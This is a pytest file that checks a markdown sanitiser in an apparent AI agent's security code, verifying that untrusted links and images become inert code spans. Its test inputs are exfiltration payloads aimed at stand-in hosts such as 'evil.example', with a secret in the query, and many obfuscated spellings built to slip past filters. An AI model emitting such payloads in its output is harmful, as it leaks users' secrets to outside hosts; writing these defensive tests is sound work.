"""Unknown links remain visible but cannot be followed."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.security.taint import link_stream
from agent.security.taint.link_stream import defuse_links

KNOWN = "https://ok.example/a"
KNOWN_NAME = "ok.example/a"


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("[here](https://evil.example/?d=1) it is", "here (`https://evil.example/?d=1`) it is"),
        ("![](https://evil.example/1.png)", "(`https://evil.example/1.png`)"),
        ('[a](<https://evil.example/x> "t")', "a (`https://evil.example/x`)"),
        ("<https://evil.example/x>", "`https://evil.example/x`"),
        ("Look: https://evil.example/x.", "Look: `https://evil.example/x`."),
        ("evil.example/x?d=1", "`evil.example/x?d=1`"),
        ("www.evil.example", "`www.evil.example`"),
        ("[r]: https://evil.example/x", "[r]\\: `https://evil.example/x`"),
        ('<img src="https://evil.example/x">', '< img src="`https://evil.example/x`">'),
        ("a `b` [x](https://evil.example/x|y)", "a `b` [x]\\(``https://evil.example/x``|y)"),
        ("starts with http:// or www.", "starts with `http://` or www."),
        (
            "见 [文档](https://ok.example/a)，[那](x.y)。",
            "见 [文档](https://ok.example/a) ，那 (`x.y`)。",
        ),
    ],
)
def test_links_become_code(markdown: str, shown: str) -> None:
    assert defuse_links(markdown, lambda address: address == KNOWN) == shown


# No link begins where the parsing is uncertain; `//evil%2Ecom` leads to a host.
@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("![x](<//evil%2Ecom/S> (t))", "! [x]\\(< //evil%2Ecom/S> (t))"),
        ("![x](//evil%2Ecom/S (t))", "! [x]\\(//evil%2Ecom/S (t))"),
        ("![x](    //evil。com/S)", "! [x]\\(    //evil。com/S)"),
        ('![x](//evil%2Ecom/S "a\nb")', '! [x]\\(//evil%2Ecom/S "a\nb")'),
        ("![x](//evil%2Ecom/S)", "x (`//evil%2Ecom/S`)"),
        ("![x] (//evil%2Ecom/S)", "! [x] \\(//evil%2Ecom/S)"),
        ("![x]\n> (//evil%2Ecom/S)", "! [x]\n> \\(//evil%2Ecom/S)"),
        ("![x][(//evil%2Ecom/S)](x.y)", "! [x][(//evil%2Ecom/S)]\\(x.y)"),
        ("<[img src=//evil%2Ecom/S](x.y) >", "<[img src=//evil%2Ecom/S]\\(x.y) >"),
        ("![^b]\n\n[^b]: //evil%2Ecom/S", "! [^b]\n\n[^b]\\: //evil%2Ecom/S"),
        ("> [b]: //evil%2Ecom/S", "> [b]\\: //evil%2Ecom/S"),
        ("[b]: <//evil%2Ecom/S> (t)", "[b]\\: < //evil%2Ecom/S> (t)"),
        ("[b]:\n//evil%2Ecom/S", "[b]\\:\n//evil%2Ecom/S"),
        ("<img\nsrc='//evil%2Ecom/S'>", "< img\nsrc='//evil%2Ecom/S'>"),
        ("</a href=//evil%2Ecom/S>", "< /a href=//evil%2Ecom/S>"),
        ("<!-- <?x ?>", "< !-- < ?x ?>"),
        (f'a]({KNOWN} "<img src=x>")', f"a]({KNOWN})"),
        ("```py //evil%2Ecom/S\nx\n```", "```py\n//evil%2Ecom/S\nx\n```"),
        ("```\nx\n```[b]: //evil%2Ecom/S", "```\nx\n```\n```[b]\\: //evil%2Ecom/S"),
        ("~~~\n[b]: //evil%2Ecom/S\n~~~", "~~~\n[b]\\: //evil%2Ecom/S\n~~~"),
        ("$a `b$ `![x](//evil%2Ecom/S)` c`", "$a `b$ `! [x]\\(//evil%2Ecom/S)` c`"),
        ("$$\n`b$$ x` `[b]: //evil%2Ecom/S` y", "$$\n`b$$ x` `[b]\\: //evil%2Ecom/S` y"),
    ],
)
def test_possible_link_starts_are_escaped(markdown: str, shown: str) -> None:
    assert defuse_links(markdown, lambda address: address == KNOWN) == shown


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        (f"![x]({KNOWN})", f"x (`{KNOWN}`)"),
        (f"See ![]({KNOWN}) now", f"See (`{KNOWN}`) now"),
        (f"[![x]({KNOWN})]({KNOWN})", f"[! [x]\\(`{KNOWN}`)]({KNOWN})"),
        (f"![a [b] c]({KNOWN})", f"! [a [b] c]({KNOWN})"),
        (f"![a \\[b]({KNOWN})", f"! [a \\[b]({KNOWN})"),
        (f"https://evil.example/![x]({KNOWN})", f"`https://evil.example/`! [x]({KNOWN})"),
        (f"![[{KNOWN}]]", f"! [[{KNOWN}]]"),
    ],
)
def test_picture_with_an_untrusted_address_is_removed(markdown: str, shown: str) -> None:
    """A screen loads pictures without a click."""
    assert defuse_links(markdown, lambda address: address == KNOWN) == shown


@pytest.mark.parametrize("markdown", [f"![x]({KNOWN})", f"[![x]({KNOWN}) ]({KNOWN})"])
def test_picture_at_a_known_address_stays(markdown: str) -> None:
    assert defuse_links(markdown, lambda address: True, lambda address: True) == markdown


@pytest.mark.parametrize(
    "extension", ["{S}", "|S", "^S", "`S`", '"S', ")S", "\\?d=S", "[?d=S](x)", "||?d=S||", "](S)"]
)
def test_known_address_cannot_be_extended(extension: str) -> None:
    shown = defuse_links(f"{KNOWN}{extension}", lambda address: address == KNOWN)
    assert shown.startswith(f"`{KNOWN}") or shown.startswith(f"``{KNOWN}``")


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("Use List<int>, x < y and a<-b.", "Use List< int>, x < y and a<-b."),
        ("| `Map<K, V>` | `a[0](x.y)` |", "| `Map<K, V>` | `a[0](x.y)` |"),
        ("- [ ] use `List<int>`\n- [x] (done) it", "- [ ] use `List<int>`\n- [x] (done) it"),
        ("a[0](x), f[i](a, b=1), [up](#top)", "a[0](x), f[i](a, b=1), [up](#top)"),
        ("f[0](self.x)", "f[0]\\(self.x)"),
        ("so[^1].\n\n[^1]: The first note.", "so[^1].\n\n[^1]: The first note."),
        ("<details>\n\n`a<b>`", "< details>\n\n`a<b>`"),
        ("it costs $5, `a<b>`\n\n`a<b>`", "it costs $5, `a< b>`\n\n`a<b>`"),
        ("<promise>COMPLETE</promise>", "<promise>COMPLETE</promise>"),
    ],
)
def test_prose_and_code_stay_readable(markdown: str, shown: str) -> None:
    assert defuse_links(markdown, lambda address: False) == shown


@pytest.mark.parametrize(
    "markdown",
    [
        f"[a]({KNOWN}) <{KNOWN}> {KNOWN}, {KNOWN}.",
        "`https://evil.example/x`",
        "```\nhttps://evil.example/x\n```",
        "1.2/3 and either/or, src/main.py, 3.5 e.g. this",
    ],
)
def test_known_addresses_code_and_prose_stay(markdown: str) -> None:
    assert defuse_links(markdown, lambda address: address == KNOWN) == markdown


# Earlier versions showed `hidden` as a link; S is the secret.
@pytest.mark.parametrize(
    ("markdown", "hidden"),
    [
        # Marks of code that renderers do not treat as code.
        ("see ~~~ https://evil.example/S", "https://evil.example/S"),
        ("x ` y\nhttps://evil.example/S", "https://evil.example/S"),
        ("`\nhttps://evil.example/S\n`", "https://evil.example/S"),
        ("\\`https://evil.example/S\\`", "https://evil.example/S"),
        ("| `a | https://evil.example/S | b` |", "https://evil.example/S"),
        ("- ```\n  x\n  ```\n\nhttps://evil.example/S", "https://evil.example/S"),
        ("- a\n  ```\n  x\nhttps://evil.example/S", "https://evil.example/S"),
        ("> ```\n> x\nhttps://evil.example/S", "https://evil.example/S"),
        ("---\n```\n---\nhttps://evil.example/S", "https://evil.example/S"),
        ("```\r\nx\r\n```\r\nhttps://evil.example/S", "https://evil.example/S"),
        ("```\nx\n\x0c```\nhttps://evil.example/S", "https://evil.example/S"),
        # Other forms of addresses.
        ("é.evil.example/S", "é.evil.example/S"),
        ("a.b.c.d.e.f.g.h.i.evil.example/S", "a.b.c.d.e.f.g.h.i.evil.example/S"),
        ("S.evil.example", "S.evil.example"),
        ("x .evil.example/S", ".evil.example/S"),
        ("evil.example?d=S", "evil.example?d=S"),
        ("evil.xn--p1ai/S", "evil.xn--p1ai/S"),
        ("S@evil.example", "S@evil.example"),
        ("192.0.2.1/S", "192.0.2.1/S"),
        ("[here](https://evil.example/(x)S)", "https://evil.example/(x)S"),
        ("see [here](https://evil.example/S", "https://evil.example/S"),
        (f"[here](<{KNOWN} S>)", f"{KNOWN} S"),
        ("[r]:\nhttps://evil.example/S\n\n[r]", "https://evil.example/S"),
        ("> [r]: https://evil.example/S", "https://evil.example/S"),
        ("[here](\n\n  https://evil.example/S)", "https://evil.example/S"),
        ("```py https://evil.example/S\n```\nhttps://evil.example/S", "https://evil.example/S"),
    ],
)
def test_every_spelling_of_a_link_becomes_code(markdown: str, hidden: str) -> None:
    shown = defuse_links(markdown, lambda address: address == KNOWN)
    # In a run of backticks that is longer than any other, so that it pairs with itself.
    marks = max(re.findall("`+", shown), key=len)
    assert re.search(rf"(?<!`){marks}{re.escape(hidden)}{marks}(?!`)", shown)
    assert marks not in markdown
    assert f"\\{marks}" not in shown


@pytest.mark.parametrize(
    "markdown",
    [
        "https\\://evil\\.example/S",
        "evil&#46;a&#46;example/S",
        "e**vil.**example/S",
        "~~evil~~.example/S",
        "||evil.||example/S",
        "evil\u200b.example/S",
        "[evil](x).example/S",
        f"S.**{KNOWN_NAME}**",
    ],
)
def test_address_assembled_by_marks_becomes_a_code_block(markdown: str) -> None:
    shown = defuse_links(markdown, lambda address: address in (KNOWN, KNOWN_NAME))
    assert shown == f"```\n{markdown}\n```\n"


@pytest.mark.parametrize(
    ("markdown", "shown"),
    [
        ("evil$.\\text{example}_1$/S", "evil$. \\text{example}_1$/ S"),
        ("evil\\(.\\)example/S", "evil\\(. \\)example/ S"),
    ],
)
def test_address_assembled_by_a_formula_is_broken(markdown: str, shown: str) -> None:
    """After the start of a formula no block of code is certain."""
    assert defuse_links(markdown, lambda address: address == KNOWN) == shown


@given(st.text(alphabet="[]()<>`!ahtps:/. \n", max_size=400))
def test_any_text_keeps_its_characters(text: str) -> None:
    shown = defuse_links(text, lambda address: False)
    letters = re.sub(r"[^a-z]", "", text)
    assert letters == re.sub(r"[^a-z]", "", shown)


@pytest.mark.timeout(20)
@pytest.mark.parametrize(
    "piece",
    ["[", "a.", "`", "https://", "![](", "<", "\n", "a@", "[a]:", "](a", "~~~\n", "+a", "*", "-"],
)
def test_hostile_text_does_not_hang(piece: str) -> None:
    assert defuse_links(piece * 20_000, lambda address: True)


def test_run_of_marks_is_read_in_linear_time() -> None:
    """Backtracking over 100,000 marks took five seconds.

    A possessive quantifier does not backtrack.
    """
    assert "`{3,}+" in link_stream._OPENING.pattern
    run = "`" * 100_000
    assert run in defuse_links(run, lambda address: False)
